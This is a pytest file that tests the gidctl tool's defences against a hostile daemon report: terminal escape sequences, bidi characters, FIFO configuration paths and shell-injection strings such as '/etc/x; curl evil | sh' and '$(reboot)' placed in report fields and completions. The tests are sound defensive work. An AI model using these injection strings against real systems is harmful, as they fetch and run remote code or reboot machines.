# SPDX-License-Identifier: MIT
"""What a gidd or a gid-cluster that was taken over tells who looks at it, who may be root."""

import fcntl
import itertools
import json
import os
import re
import socket
import subprocess
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from lib.cockpit import Cockpit
from lib.gidwire import HELLO, REPORT, STATUS, VERSION, WELCOME, Closed, Connection, pack
from lib.program import BUILD, PATIENCE, TOP

GIDCTL = BUILD / "tools" / "gidctl" / "gidctl"
MakeCockpit = Callable[..., Cockpit]
# What a terminal obeys, or what turns a line: here gidctl writes no colours of its own.
ODD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
REPORT_OF_OPEN = {
    "domain": "open",
    "number": 1,
    "pid": 7,
    "wire": VERSION,
    "links": [{"domain": "cluster", "kind": "local", "state": "down", "why": "it is away"}],
    "clients": [{"program": "weston", "pid": 8, "uid": 1000}],
    "streams": [{"name": "movie", "producer": "weston", "subscriptions": 0}],
}


def gidctl(cockpit: Cockpit, *words: str | Path) -> subprocess.CompletedProcess[str]:
    env = cockpit.env("open")
    env["PATH"] = f"{BUILD / 'gidd'}:{env['PATH']}"
    command = [GIDCTL, *words]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=PATIENCE)


class Gidd:
    """One of `open` that lets everybody in, and has the same report for all: a file, a size."""

    def __init__(self, cockpit: Cockpit, report: int, size: int) -> None:
        self._report, self._size = report, size
        path = cockpit.socket("open")
        path.parent.mkdir(parents=True, exist_ok=True)
        self._listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self._listener.bind(str(path))
        self._listener.listen()
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            client = Connection.__new__(Connection)
            client.serial, client.events = 0, []
            try:
                client.socket, _ = self._listener.accept()
            except OSError:
                return  # the end
            with client:
                self._answer(client)

    def _answer(self, client: Connection) -> None:
        try:
            while True:
                asked = client.receive()
                if asked.type == HELLO:
                    client.send_raw(pack(WELCOME, VERSION, 1, b"open", 0, serial=asked.serial))
                elif asked.type == STATUS:
                    answer = pack(REPORT, self._size, serial=asked.serial)
                    client.send_raw(answer, [self._report])
        except (Closed, TimeoutError):
            pass

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._listener.close()


@contextmanager
def reporting(cockpit: Cockpit, **changes: object) -> Iterator[None]:
    """The gidd of `open` reports this, in memory as it has to be."""
    text = json.dumps(REPORT_OF_OPEN | changes).encode()
    fd = os.memfd_create("report", os.MFD_ALLOW_SEALING)
    os.write(fd, text)
    fcntl.fcntl(fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_WRITE)
    with closing(Gidd(cockpit, fd, len(text))):
        yield
    os.close(fd)


def test_a_report_is_shown(make_cockpit: MakeCockpit) -> None:
    """One without any of that, so that the others are refused for what they say."""
    cockpit = make_cockpit()
    with reporting(cockpit):
        shown = gidctl(cockpit, "status")
        assert (shown.returncode, shown.stderr) == (0, "")
        assert "to cluster (local): down, it is away" in shown.stdout
        assert "movie" in gidctl(cockpit, "list").stdout


@pytest.mark.parametrize("odd", ["\x1b]0;root\x07", "\x9b2J", "\r", "\u202emoc", "\u200b"])
@pytest.mark.parametrize("place", ["domain", "links", "streams", "a key"])
def test_what_terminals_obey(make_cockpit: MakeCockpit, odd: str, place: str) -> None:
    cockpit = make_cockpit()
    changes: dict[str, object] = {
        "domain": {"domain": odd},
        "links": {"links": [{"domain": "cluster", "state": "down", "why": f"it is {odd}"}]},
        "streams": {"streams": [{"name": odd, "producer": odd, "subscriptions": 1}]},
        "a key": {"more": {odd: 1}},
    }[place]
    with reporting(cockpit, **changes):
        top = ["top", "--once", "--interval", "0.1"]
        for words in (["status"], ["list"], ["--json", "status"], ["--json", "list"], top):
            shown = gidctl(cockpit, *words)
            assert (shown.returncode, shown.stdout) == (1, "")
            assert shown.stderr.startswith("gidctl: no report from gidd: ")
            assert not ODD.search(shown.stderr)


def test_lines_of_others(make_cockpit: MakeCockpit) -> None:
    """Texts of a report may have some, as mistakes of a configuration do; none of them is shown."""
    cockpit = make_cockpit()
    why = "it is away\n  to cluster (local): up"
    links = [{"domain": "cluster", "kind": "local", "state": "down", "why": why}]
    with reporting(cockpit, links=links, configuration={"refused": "3: a\n4: b\n"}):
        shown = gidctl(cockpit, "status")
        assert (shown.returncode, shown.stderr) == (0, "")
        assert "to cluster (local): down" in shown.stdout and ": up" not in shown.stdout


def test_what_terminals_obey_at_the_doctors(make_cockpit: MakeCockpit) -> None:
    cockpit = make_cockpit()
    links = [{"domain": "cluster\x1b[2J", "state": "down", "why": "\u202emoc"}]
    with reporting(cockpit, links=links):
        shown = gidctl(cockpit, "doctor")
    assert "gidd gives no report" in shown.stdout and not ODD.search(shown.stdout)


def test_a_report_in_any_file(make_cockpit: MakeCockpit) -> None:
    """Reading one of a file system that never answers would never end."""
    cockpit = make_cockpit()
    with tempfile.TemporaryFile() as file:
        text = json.dumps(REPORT_OF_OPEN).encode()
        file.write(text)
        file.flush()
        with closing(Gidd(cockpit, file.fileno(), len(text))):
            shown = gidctl(cockpit, "status")
    assert (shown.returncode, shown.stdout) == (1, "")


# --- the configuration that it says it has ---


def test_a_doctor_opens_no_pipe(make_cockpit: MakeCockpit) -> None:
    """Which has no end: whoever opens it waits. Nor a device, with which opening does something."""
    cockpit = make_cockpit()
    pipe = cockpit.folder / "pipe.conf"
    os.mkfifo(pipe)
    for file in (pipe, Path("/dev/null")):
        with reporting(cockpit, configuration={"file": str(file)}):
            shown = gidctl(cockpit, "doctor").stdout
            assumed = gidctl(cockpit, "doctor", "--assurance").stdout
        cockpit.socket("open").unlink()
        assert f"note  configuration: {file} is not looked at" in shown
        for assumption in ("Reviewed_Configuration", "Guests_With_Disks"):
            assert f"note  {assumption}: {file} is not looked at" in assumed


def test_a_doctor_prescribes_no_commands_of_others(make_cockpit: MakeCockpit) -> None:
    """What is to be done about it people type as they see it."""
    cockpit = make_cockpit()
    evil = "/etc/x; curl evil | sh"
    links = [{"domain": "cluster $(reboot)", "state": "down", "why": "it is away"}]
    configuration = {"file": evil, "is_newer": True}
    with reporting(cockpit, configuration=configuration, links=links):
        shown = gidctl(cockpit, "doctor").stdout
    remedies = [line for line in shown.splitlines() if line.lstrip().startswith("→")]
    assert any("gid-cockpit --config FILE reload" in line for line in remedies)
    assert any("gid-cockpit --config FILE up DOMAIN" in line for line in remedies)
    assert not any("evil" in line or "reboot" in line for line in remedies)


def test_a_completion_runs_no_commands_of_others(make_cockpit: MakeCockpit) -> None:
    """Whoever presses Tab may be root: bash itself runs what $(…) in a list of words says."""
    cockpit = make_cockpit()
    made = cockpit.folder / "made"
    evil = f"$(touch${{IFS}}{made})"
    streams = [{"name": name, "producer": "weston", "subscriptions": 0} for name in ("film", evil)]
    readable = [{"name": evil, "domain": evil}]
    tools = TOP / "tools"
    env = cockpit.env("open")
    env["PATH"] = f"{GIDCTL.parent}:{env['PATH']}"
    script = ["bash", tools / "completions/offer.bash", tools / "gidctl/gidctl.bash"]
    with reporting(cockpit, streams=streams, readable=readable):
        for words in (["gidctl", "watch", ""], ["gid-view", "--domain=open", "--stream", ""]):
            shown = subprocess.run([*script, *words], env=env, capture_output=True, text=True)
            assert (shown.returncode, shown.stderr) == (0, "")
            assert sorted(shown.stdout.split()) == (
                ["film", "open"] if "watch" in words else ["film"]
            )
    assert not made.exists()


# --- who is in the place of a gid-cluster ---


@contextmanager
def display_says(cockpit: Cockpit, say: Callable[[socket.socket], None]) -> Iterator[None]:
    """Whoever has the folder of the domain can listen there."""
    ended = threading.Event()
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(cockpit.socket("open").with_name("cluster.sock")))
        listener.listen()

        def serve() -> None:
            while not ended.is_set():
                try:
                    client = listener.accept()[0]
                except OSError:
                    return
                with client:
                    try:
                        say(client)
                    except OSError:
                        pass

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield
        finally:
            ended.set()
            listener.shutdown(socket.SHUT_RDWR)
            thread.join()


def test_what_terminals_obey_of_a_display(make_cockpit: MakeCockpit) -> None:
    cockpit = make_cockpit()
    cockpit.start("open")
    role = {"name": "light", "state": "live", "text": "\x1b[2J", "shows": "frame", "stream": "s"}
    status = json.dumps({"roles": [role], "outputs": [{"name": "A", "output": "A\x9b2J"}]})
    with display_says(cockpit, lambda client: client.sendall(status.encode())):
        shown = gidctl(cockpit, "--interval", "0.1", "--once", "top")
    assert (shown.returncode, shown.stderr) == (0, "")
    assert "light" not in shown.stdout and not ODD.search(shown.stdout)


def test_a_display_that_did_not_answer_before(make_cockpit: MakeCockpit) -> None:
    """It counts from its start, and not from then on."""
    cockpit = make_cockpit()
    cockpit.start("open")
    role = {"name": "light", "state": "live", "frames": 36000, "stream": "safety/light"}
    output = {"name": "A", "output": "A", "frames": 72000}
    status = json.dumps({"roles": [role], "outputs": [output]}).encode()
    answers = itertools.chain([b""], itertools.repeat(status))
    with display_says(cockpit, lambda client: client.sendall(next(answers))):
        shown = gidctl(cockpit, "--interval", "0.1", "--once", "top")
    assert "Display A: - repaints a second" in shown.stdout
    assert re.search(r"^light +live .* - +- +- +0 +safety/light$", shown.stdout, re.M)


def test_a_display_that_says_one_byte_after_the_other(make_cockpit: MakeCockpit) -> None:
    """Each of them comes in time, and all of them never do."""
    cockpit = make_cockpit()
    cockpit.start("open")
    ended = threading.Event()

    def say(client: socket.socket) -> None:
        while not ended.wait(0.2):
            client.send(b" ")

    with display_says(cockpit, say):
        try:
            shown = gidctl(cockpit, "--interval", "0.1", "--once", "top")
        finally:
            ended.set()
    assert (shown.returncode, shown.stderr) == (0, "")
